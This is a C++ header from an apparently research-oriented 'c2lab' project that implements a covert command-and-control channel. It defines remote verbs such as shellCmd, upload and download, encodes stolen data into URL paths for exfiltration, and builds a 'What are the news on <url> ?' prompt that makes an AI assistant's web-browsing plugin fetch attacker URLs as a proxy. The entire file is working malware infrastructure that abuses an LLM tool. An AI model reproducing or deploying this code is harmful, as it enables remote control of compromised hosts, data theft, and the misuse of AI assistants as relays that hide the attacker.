#pragma once

// Covert-channel encodings: command pages, URL-path exfiltration and the
// lookup prompt that carries a URL through the proxy.

#include <array>
#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "c2lab/base64.hpp"
#include "c2lab/error.hpp"
#include "c2lab/url.hpp"

namespace c2lab {

using Bytes = std::vector<std::uint8_t>;

inline Bytes to_bytes(std::string_view s) { return Bytes(s.begin(), s.end()); }
inline std::string to_text(std::span<const std::uint8_t> b) { return std::string(b.begin(), b.end()); }

enum class Verb { shellCmd, upload, download, listDir, announceAck, noop };

inline constexpr std::array<Verb, 6> kAllVerbs = {Verb::shellCmd, Verb::upload,      Verb::download,
                                                  Verb::listDir,  Verb::announceAck, Verb::noop};

constexpr std::string_view to_string(Verb v) noexcept {
  switch (v) {
    case Verb::shellCmd: return "shellCmd";
    case Verb::upload: return "upload";
    case Verb::download: return "download";
    case Verb::listDir: return "listDir";
    case Verb::announceAck: return "announceAck";
    case Verb::noop: return "noop";
  }
  return "noop";
}

inline std::optional<Verb> verb_from_string(std::string_view s) noexcept {
  for (Verb v : kAllVerbs)
    if (to_string(v) == s) return v;
  return std::nullopt;
}

struct CommandMsg {
  Verb verb = Verb::noop;
  std::string arg;

  bool operator==(const CommandMsg&) const = default;
};

inline std::string serialize_command(const CommandMsg& cmd) {
  std::string out(to_string(cmd.verb));
  if (!cmd.arg.empty()) {
    out += ' ';
    out += cmd.arg;
  }
  return out;
}

inline CommandMsg parse_command(std::string_view text) {
  if (text.empty()) throw Error(Errc::EmptyInput, "empty command text");
  const auto space = text.find(' ');
  const auto head = text.substr(0, space);
  const auto verb = verb_from_string(head);
  if (!verb) throw Error(Errc::UnknownVerb, "'" + std::string(head) + "'");
  CommandMsg cmd{*verb, {}};
  if (space != std::string_view::npos) cmd.arg = std::string(text.substr(space + 1));
  return cmd;
}

enum class ExfilEncoding { Base64, Ascii };

constexpr std::string_view to_string(ExfilEncoding e) noexcept { return e == ExfilEncoding::Base64 ? "base64" : "ascii"; }

inline std::optional<ExfilEncoding> exfil_encoding_from_string(std::string_view s) noexcept {
  if (s == "base64") return ExfilEncoding::Base64;
  if (s == "ascii") return ExfilEncoding::Ascii;
  return std::nullopt;
}

struct ExfilPayload {
  Bytes data;
  ExfilEncoding encoding = ExfilEncoding::Base64;
};

/// Longest encoded path segment accepted for a single exfil request.
inline constexpr std::size_t kMaxExfilPathChars = 2000;

inline std::string encode_exfil_segment(const ExfilPayload& payload) {
  if (payload.data.empty()) throw Error(Errc::EmptyPayload, "nothing to exfiltrate");
  std::string encoded;
  if (payload.encoding == ExfilEncoding::Base64) {
    // '/' would split the path and '+' is read as a space by some decoders.
    encoded = url::percent_encode(base64::encode(payload.data), [](char c) { return c != '/' && c != '+'; });
  } else {
    for (auto b : payload.data)
      if (b > 0x7F) throw Error(Errc::MalformedEncoding, "non-ASCII byte in ASCII exfil payload");
    encoded = url::percent_encode(to_text(payload.data));
  }
  if (encoded.size() > kMaxExfilPathChars)
    throw Error(Errc::PayloadTooLarge, std::to_string(encoded.size()) + " encoded chars exceeds " +
                                           std::to_string(kMaxExfilPathChars));
  return encoded;
}

inline std::string encode_exfil_path(const ExfilPayload& payload, std::string base_url) {
  url::parse(base_url);
  if (!base_url.ends_with('/')) base_url += '/';
  return base_url + encode_exfil_segment(payload);
}

inline Bytes decode_exfil_path(std::string_view path, ExfilEncoding expected) {
  if (!path.starts_with('/')) throw Error(Errc::MalformedEncoding, "path must begin with '/'");
  auto rest = path.substr(1);
  if (const auto q = rest.find_first_of("?#"); q != std::string_view::npos) rest = rest.substr(0, q);
  if (rest.empty()) throw Error(Errc::MalformedEncoding, "empty path");
  const auto unescaped = url::percent_decode(rest);
  if (!unescaped) throw Error(Errc::MalformedEncoding, "bad percent escape");
  if (expected == ExfilEncoding::Base64) {
    auto bytes = base64::decode(*unescaped);
    if (!bytes) throw Error(Errc::MalformedEncoding, "invalid Base64");
    return *bytes;
  }
  for (unsigned char c : *unescaped)
    if (c > 0x7F) throw Error(Errc::MalformedEncoding, "non-ASCII byte in ASCII path");
  return to_bytes(*unescaped);
}

struct PluginQuery {
  std::string template_text;
  std::string target_url;
  std::optional<std::string> plugin_hint;
};

inline constexpr std::string_view kLookupPrefix = "What are the news on ";
inline constexpr std::string_view kLookupSuffix = " ?";

inline PluginQuery build_lookup_prompt(const std::string& target, std::optional<std::string> hint = std::nullopt) {
  url::parse(target);
  PluginQuery q;
  q.template_text = std::string(kLookupPrefix) + target + std::string(kLookupSuffix);
  q.target_url = target;
  q.plugin_hint = std::move(hint);
  return q;
}

/// First absolute http(s) URL in the text. A URL runs until the first
/// character that cannot appear in one (whitespace, quotes, angle brackets).
inline std::string extract_url(std::string_view text) {
  std::size_t pos = 0;
  while (pos < text.size()) {
    const auto a = text.find("http://", pos);
    const auto b = text.find("https://", pos);
    const auto start = std::min(a, b);
    if (start == std::string_view::npos) break;
    auto end = start;
    while (end < text.size() && url::is_url_char(text[end])) ++end;
    const auto candidate = text.substr(start, end - start);
    if (url::is_valid(candidate)) return std::string(candidate);
    pos = start + 1;
  }
  throw Error(Errc::NoUrlFound, "no absolute http(s) URL in prompt");
}

}  // namespace c2lab
